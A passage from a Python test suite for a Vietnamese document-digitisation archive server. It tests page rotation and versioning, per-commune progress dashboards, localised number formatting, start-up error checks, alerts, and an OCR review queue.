    with zipfile.ZipFile(io.BytesIO(r.content)) as zf:
        pdf = zf.read(f"{MA}/data/{MA}.001.pdf")
    with pikepdf.open(io.BytesIO(pdf)) as doc:
        assert [int(p.obj.get("/Rotate", 0)) for p in doc.pages] == [90, 0]
        assert "/OutputIntents" in doc.Root and doc.open_metadata()["pdfaid:part"] == "2"
    doc2 = pdfium.PdfDocument(pdf)
    try:
        turned, plain = doc2[0], doc2[1]
        image = turned.render(scale=0.5).to_pil()
        assert image.height > image.width  # the A5-landscape sheet now stands upright
        assert plain.render(scale=0.5).to_pil().width > plain.render(scale=0.5).to_pil().height
        text = turned.get_textpage().get_text_range()
    finally:
        doc2.close()
    first = pdfium.PdfDocument(stored)
    try:
        unturned = first[0].get_textpage().get_text_range()
    finally:
        first.close()
    # the text layer turned with its image: the same words come out, in the same order
    assert "khoáng sản" in text and "TÂN LẬP" in text and text == unturned

    # Changed again through the API (180), then undone (0): every turn from the original.
    h = staff.bearer("archivist")
    assert c.post("/api/v1/pages/1/review", json={"action": "rotate"}, headers=h).status_code == 422
    for deg in (180, 0):
        ok = c.post("/api/v1/pages/1/review", json={"action": "rotate", "degrees": deg}, headers=h)
        assert ok.status_code == 204
    assert c.get("/api/v1/pages/1/image").headers["x-sha256"] == original["sha256"]
    assert [v.degrees for v in rotation.versions(staff.db, 1)] == [90, 180, 0]
    shown = c.get("/api/v1/pages/1/versions", headers=staff.bearer("viewer")).json()
    assert [(v["degrees"], v["actor"]) for v in shown] == [
        (90, "archivist"), (180, "archivist"), (0, "archivist")
    ]  # fmt: skip
    assert shown[-1]["sha256"] == original["sha256"]
    assert {v.from_sha256 for v in rotation.versions(staff.db, 1)} == {original["sha256"]}
    names = [
        r["name"]
        for r in staff.db.read().execute(
            "SELECT name FROM parts WHERE page_pk = 1 AND name LIKE 'archival%' ORDER BY id"
        )
    ]
    assert names == ["archival", "archival.r1", "archival.r2"]  # nothing replaced
    turned_paths = [
        Path(r["path"])
        for r in staff.db.read().execute(
            "SELECT path FROM parts WHERE page_pk = 1 AND name LIKE 'archival.r%'"
        )
    ]
    assert all(p.is_file() and own_store in p.parents for p in turned_paths)  # beside it
    # The turned files are parts like any other: the store's fixity walk re-hashes them.
    from server.archive import fixity

    since = min(v.at for v in rotation.versions(staff.db, 1))
    report = fixity.check_store(staff.db, since=since)
    assert report.checked == 2 and not report.damaged
    rotations = [
        a["detail"]["degrees"] for a in audit.recent(staff.db) if a["action"] == "review.rotate"
    ]
    assert rotations == [0, 180, 90]


# -- per-commune progress ---------------------------------------------------------------------


def test_staff_pages_write_numbers_the_vietnamese_way(staff: Staff) -> None:
    """Counts above 999 on the staff pages: 1.234 (thousands dot) in Vietnamese, 1,234 in
    English; decimals with a comma in Vietnamese (the byte sizes)."""
    with staff.db.tx() as con:
        con.execute("UPDATE batches SET page_count = 1234")
    r = staff.client.put(
        f"/api/v1/ho-so/{MA}", json=ho_so_body(so_luong_to=1500), headers=staff.bearer("admin")
    )
    assert r.status_code == 200, r.text
    staff.login("admin")
    batch = staff.client.get("/batches/1").text
    assert "/ 1.234" in batch and "1,234" not in batch
    assert "1.500" in staff.client.get(f"/ho-so/{MA}").text
    dashboard = staff.client.get("/").text
    assert "/ 1.234" in dashboard
    english = staff.client.get("/batches/1?lang=en").text
    assert "/ 1,234" in english and "1.234" not in english
    assert "1,500" in staff.client.get(f"/ho-so/{MA}").text  # the language cookie holds


def test_bar_chart_has_one_bar_per_day() -> None:
    from server.archive.progress import DAYS
    from server.web import bar_chart

    per_day = [0] * DAYS
    per_day[-1], per_day[-3] = 8, 4
    svg = str(bar_chart(per_day, dt.date(2025, 3, 31), label="Trang <mỗi> ngày"))
    assert svg.startswith("<svg") and svg.endswith("</svg>")
    bars = re.findall(r'<rect class="bar"[^>]* height="(\d+)"[^>]*><title>([^<]+)</title>', svg)
    assert len(bars) == DAYS == 30
    assert bars[-1] == ("48", "31/03: 8") and bars[-3] == ("24", "29/03: 4")
    assert bars[0] == ("0", "02/03: 0")
    assert "Trang &lt;mỗi&gt; ngày" in svg  # the label is escaped


def test_commune_progress_from_ho_so_then_from_the_admin_label(
    staff: Staff, monkeypatch: pytest.MonkeyPatch
) -> None:
    from server.archive import progress

    # Described pages are counted again in the background (the kept answer stands for up to
    # STALE_OK_S: see the next test); here at once, and the test waits for it.
    monkeypatch.setattr(progress, "STALE_OK_S", 0.0)
    c = staff.client
    v, a = staff.bearer("viewer"), staff.bearer("admin")
    (device,) = [d["device_id"] for d in c.get("/api/v1/devices", headers=v).json()]
    (unknown,) = c.get("/api/v1/communes", headers=v).json()
    assert unknown["commune"] == "" and unknown["devices"] == [device]
    # The pipeline flagged one page of three (the blank one).
    assert (unknown["pages"], unknown["pages_received"], unknown["pages_flagged"]) == (3, 3, 1)
    # Counted on the (local) day each page was received: the fixture's pages may have come in
    # before midnight and the question after it, so the day is read from the archive.
    (last,) = (
        staff.db.read()
        .execute("SELECT MAX(committed_at) FROM parts WHERE name != 'capture'")
        .fetchone()
    )
    days_ago = (dt.date.today() - dt.date.fromtimestamp(last)).days
    expected = [0] * 30
    expected[29 - days_ago] = 3
    assert unknown["per_day"] == expected
    # Described in a hồ sơ: the commune is its OrganId until an admin names it.
    make_ho_so(staff)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        (by_organ,) = c.get("/api/v1/communes", headers=v).json()
        if by_organ["pages_described"]:
            break
        time.sleep(0.05)
    assert by_organ["commune"] == "000.00.00.H53" and by_organ["pages_described"] == 2
    # Enrolled for a commune (sohoa-server device add --commune, with --replace as for a
    # station already known): that commune, the place the fleet table shows beside it —
    # the dashboard showed the OrganId above the station's "Xã Demo" (the demo, 2026-12-07).
    from server.fleet import registry
    from server.fleet_cli import _audit

    registry.issue_code(staff.db, device, "Xã Nà Hẩu", "", 1, replace=True, audit=_audit("cli"))
    (enrolled,) = c.get("/api/v1/communes", headers=v).json()
    assert enrolled["commune"] == "Xã Nà Hẩu" and enrolled["pages_described"] == 2
    staff.login("viewer")
    home = c.get("/").text
    assert 'data-commune="Xã Nà Hẩu"' in home  # the progress row
    assert re.search(r'<tr data-device="[^"]+">.*?Xã Nà Hẩu</a>', home)  # the station's row
    body = {"commune": "Xã Tân Lập"}
    assert c.put(f"/api/v1/devices/{device}", json=body, headers=v).status_code == 403
    assert (
        c.put(f"/api/v1/devices/{device}", json=body, headers=staff.bearer("archivist")).status_code
        == 403
    )
    assert c.put("/api/v1/devices/nosuch", json=body, headers=a).status_code == 404
    assert (
        c.put(f"/api/v1/devices/{device}", json={"commune": "x" * 201}, headers=a).status_code
        == 422
    )
    r = c.put(f"/api/v1/devices/{device}", json=body, headers=a)
    assert r.status_code == 200 and r.json()["commune"] == "Xã Tân Lập"
    (named,) = c.get("/api/v1/communes", headers=v).json()
    assert named["commune"] == "Xã Tân Lập" and named["pages_described"] == 2
    assert any(x["action"] == "device.commune" for x in audit.recent(staff.db))
    # The dashboard: one row per commune with its 30-bar chart.
    staff.login("viewer")
    home = c.get("/").text
    assert 'data-commune="Xã Tân Lập"' in home and "Tiến độ theo xã" in home
    assert home.count('<rect class="bar"') == 30
    assert "/commune" not in home  # the label form is for admins only (and not on the list)
    assert "/commune" not in c.get(f"/devices/{device}").text


def test_admin_sets_the_commune_from_the_station_page(staff: Staff) -> None:
    csrf = staff.login("admin")
    c = staff.client
    (device,) = [d["device_id"] for d in c.get("/api/v1/devices").json()]
    assert f'href="/devices/{device}"' in c.get("/").text  # the list links to the station
    assert f'action="/devices/{device}/commune"' in c.get(f"/devices/{device}").text
    assert (
        c.post(f"/devices/{device}/commune", data={"csrf": "x", "commune": "A"}).status_code == 403
    )
    r = c.post(f"/devices/{device}/commune", data={"csrf": csrf, "commune": "  Xã   Đông Hòa "})
    assert r.status_code == 200 and 'data-commune="Xã Đông Hòa"' in r.text


def test_commune_progress_is_kept_between_loads_and_never_hides_a_staff_action(
    staff: Staff, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The dashboard's per-commune counts are asked of the archive again only when something
    they count has moved; while stations deliver, the kept answer is shown for up to a minute
    and then refreshed in the background; an admin's commune label shows at once."""
    from server.archive import progress

    db = staff.db
    (before,) = progress.communes(db)
    assert before.pages_received == 3
    assert progress.communes(db)[0] is before  # kept: nothing moved
    # A station's delivery moves: one page's text part is not committed after all (as if it
    # were still arriving) and another part is committed later.
    con = db.read()
    pages = [r[0] for r in con.execute("SELECT id FROM pages ORDER BY id")]
    with db.tx() as tx:
        tx.execute(
            "UPDATE parts SET state = 'receiving', committed_at = NULL"
            " WHERE page_pk = ? AND name = 'text'",
            (pages[0],),
        )
        tx.execute(
            "UPDATE parts SET committed_at = committed_at + 1 WHERE page_pk = ? AND name = 'text'",
            (pages[1],),
        )
    assert progress.communes(db)[0] is before  # within the minute: the kept answer, no scan
    # Past the minute: the kept answer once more, and a refresh in the background.
    monkeypatch.setattr(progress, "STALE_OK_S", 0.0)
    assert progress.communes(db)[0] is before
    deadline = time.monotonic() + 30
    while progress.communes(db)[0].pages_received != 2 and time.monotonic() < deadline:
        time.sleep(0.05)
    assert progress.communes(db)[0].pages_received == 2
    # An admin labels the station: the next answer has it, with no minute's wait.
    monkeypatch.setattr(progress, "STALE_OK_S", 3600.0)
    (device,) = [r[0] for r in con.execute("SELECT device_id FROM devices")]
    assert progress.set_commune(db, device, "Xã Phúc Lợi", actor="admin")
    (named,) = progress.communes(db)
    assert named.commune == "Xã Phúc Lợi" and named.pages_received == 2


def test_the_language_link_keeps_the_page_and_a_bad_address_gets_words(staff: Staff) -> None:
    staff.login("viewer")
    c = staff.client
    home = c.get("/", params={"state": "offline", "name": "xã", "page": "1"}).text
    assert 'href="?state=offline&amp;name=x%C3%A3&amp;page=1&amp;lang=en"' in home
    english = c.get("/", params={"state": "offline", "lang": "en"}).text
    assert 'href="?state=offline&amp;lang=vi"' in english
    # A value the page cannot use: the page's own words, in the reader's language, not JSON.
    bad = c.get("/", params={"page": "abc", "lang": "vi"})
    assert bad.status_code == 422 and bad.headers["content-type"].startswith("text/html")
    assert "không dùng được: page" in bad.text
    bad_en = c.get("/", params={"page": "0", "lang": "en"})
    assert bad_en.status_code == 422 and "cannot use: page" in bad_en.text
    api = c.get("/api/v1/devices/x/y")  # the API keeps FastAPI's JSON answers
    assert api.headers["content-type"].startswith("application/json")
    api_bad = c.get("/api/v1/search", params={"q": "x", "offset": "-1"})
    assert api_bad.status_code == 422 and api_bad.json()["detail"][0]["loc"][-1] == "offset"


# -- start-up checks ---------------------------------------------------------------------------


def test_run_refuses_to_start_with_one_clear_line(tmp_path: Path) -> None:
    """``sohoa-server run`` checks the broker settings, the store and the database before it
    serves (and so before READY=1): each failure is one line and a sysexits code."""
    (tmp_path / "a-file").write_text("")
    (tmp_path / "store-is-a-file" / "store").parent.mkdir()
    (tmp_path / "store-is-a-file" / "store").write_text("")
    cases = [
        ({"SOHOA_MQTT_URL": "mqtt://broker:99999"}, 78, "port"),
        ({"SOHOA_MQTT_URL": "http://broker"}, 78, "mqtt://"),
        ({"SOHOA_MQTT_PASSWORD_FILE": str(tmp_path / "missing")}, 78, "cannot read"),
        ({"SOHOA_SERVER_DATA_DIR": str(tmp_path / "a-file" / "data")}, 73, "store"),
        ({"SOHOA_SERVER_DATA_DIR": str(tmp_path / "store-is-a-file")}, 73, "store"),
    ]
    for extra, code, words in cases:
        env = {"SOHOA_SERVER_DATA_DIR": str(tmp_path / "data"), "PATH": "/usr/bin:/bin", **extra}
        out = subprocess.run(
            [str(BIN / "sohoa-server"), "run", "--port", "1"],
            env=env, capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        assert out.returncode == code, (extra, out.stderr)
        assert words in out.stderr and "Traceback" not in out.stderr, out.stderr
        assert len(out.stderr.strip().splitlines()) == 1, out.stderr


def test_dashboard_shows_alerts_and_an_archive_that_cannot_store(staff: Staff) -> None:
    """The archive's own trouble (a full disk: tests/test_fulldisk.py makes it happen) is
    shown to staff while it lasts, and alert rows are listed, newest first, in Vietnamese."""
    with staff.db.tx() as con:
        for at, kind, detail in (
            (1.0, "archive_cannot_store", "OSError: [Errno 28] No space left on device"),
            (2.0, "archive_stores_again", "after: OSError: [Errno 28]"),
        ):
            con.execute(
                "INSERT INTO alerts(at, device_id, kind, detail) VALUES (?, ?, ?, ?)",
                (at, None, kind, detail),
            )
    staff.login("viewer")
    page = staff.client.get("/").text
    assert "Kho lưu trữ hiện không ghi được" not in page
    assert page.index("Kho ghi được dữ liệu trở lại") < page.index("Kho không ghi được dữ liệu")
    staff.client.app.state.ingest_trouble = lambda: "OSError: [Errno 28] No space left"  # type: ignore[attr-defined]
    page = staff.client.get("/").text
    assert "Kho lưu trữ hiện không ghi được dữ liệu" in page
    assert "No space left" in page


# -- pages whose text the device judged likely wrong (issue 15) --------------------------------


@dataclass
class JudgedPage(PageSrc):
    """A page whose flags and decisions are what the real pipeline wrote for a corpus page."""

    flags: tuple[str, ...] = field(default=())
    decisions: dict[str, object] = field(default_factory=dict)

    def entry(self) -> PageEntry:
        return super().entry().model_copy(update={"flags": self.flags, "decisions": self.decisions})


@pytest.mark.tesseract
@pytest.mark.slow
def test_review_queue_shows_the_devices_text_score_and_reasons(
    tmp_path: Path, database: Path | str
) -> None:
    import records

    from agent.pipeline.process import PipelineSettings, process_page

    capture = records.save(records.bad_page("handwriting", 0), tmp_path / "hand.png")
    result = process_page(capture, tmp_path / "work", PipelineSettings())
    assert "review" in result.flags, result.decisions["quality"]
    data_dir = tmp_path / "server"
    data_dir.mkdir()
    page = JudgedPage(
        page_no=1,
        parts={
            "text": result.text.read_bytes(),
            "thumb": result.thumb.read_bytes(),
            "archival": result.archival.read_bytes(),
        },
        flags=result.flags,
        decisions=result.decisions,
    )
    db = Database(database)
    ingest = Ingest(db, Store(data_dir / "store"), accept_unenrolled=True)
    batch = BatchSrc(pages=[page])
    ingest.handle(topics.up(batch.device, "manifest"), batch.manifest())
    for payload in batch.all_chunks(64 * 1024):
        ingest.handle(topics.up(batch.device, "chunk"), payload)
    db.close()
    settings = ServerSettings(data_dir=data_dir, ingest=False, database_url=url_of(database))
    db = Database(settings.database())
    auth.add_user(db, "viewer", "viewer", PASSWORD)
    token = auth.create_token(db, "viewer")
    with TestClient(create_app(settings)) as client:
        queue = client.get("/api/v1/review", headers={"Authorization": f"Bearer {token}"}).json()
        assert len(queue) == 1 and "review" in queue[0]["flags"]
        judged = result.decisions["quality"]
        assert isinstance(judged, dict)
        assert queue[0]["quality_score"] == judged["score"]
        assert queue[0]["quality_reasons"] == judged["reasons"] and judged["reasons"]
        post_login(client, username="viewer", password=PASSWORD)
        html = client.get("/review").text
        assert "chữ nhận dạng có thể sai" in html
        assert f'data-quality="{judged["score"]}"' in html
    db.close()
